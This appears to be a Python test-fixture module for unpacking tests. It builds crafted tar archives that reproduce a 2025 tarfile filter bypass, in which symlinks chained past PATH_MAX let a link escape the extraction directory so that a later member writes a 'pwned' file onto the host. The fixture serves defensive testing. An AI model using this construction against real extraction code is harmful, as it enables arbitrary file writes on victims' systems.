"""Crafted tarballs shared by the unpacking tests (unit and end to end).

`path_max_chain` is the shape of the 2025 `tarfile` filter bypasses: sixteen
directories with 247-character names, each reachable through a one-letter link, so the
short name `a/b/.../p` resolves to a path longer than PATH_MAX. A check that resolves
names with `os.path.realpath` stops resolving there (lstat fails with ENAMETOOLONG)
and goes on lexically, so a link through that chain and then `..` up to the host looks
as if it stayed inside; the kernel follows it to the host, and a later member writes
through it.
"""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

STEPS = "abcdefghijklmnop"
LONG = "d" * 247


def add_file(tar: tarfile.TarFile, name: str, body: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(body)
    tar.addfile(info, io.BytesIO(body))


def add_link(tar: tarfile.TarFile, name: str, target: str) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.SYMTYPE
    info.linkname = target
    tar.addfile(info)


def add_dir(tar: tarfile.TarFile, name: str) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    tar.addfile(info)


def path_max_chain(tar: tarfile.TarFile, top: str, host: Path) -> None:
    """Members under `top` that end by writing `top/escape/pwned` into `host`."""
    add_dir(tar, top)
    path = top
    for step in STEPS:
        add_dir(tar, os.path.join(path, LONG))
        add_link(tar, os.path.join(path, step), LONG)
        path = os.path.join(path, LONG)
    back = os.path.join(*STEPS, "l" * 254)
    add_link(tar, os.path.join(top, back), "../" * len(STEPS))
    up = "../" * (len(host.parts) + 10)
    add_link(tar, os.path.join(top, "escape"), f"{back}/../{up}{str(host).lstrip('/')}")
    add_file(tar, os.path.join(top, "escape", "pwned"), b"pwned")
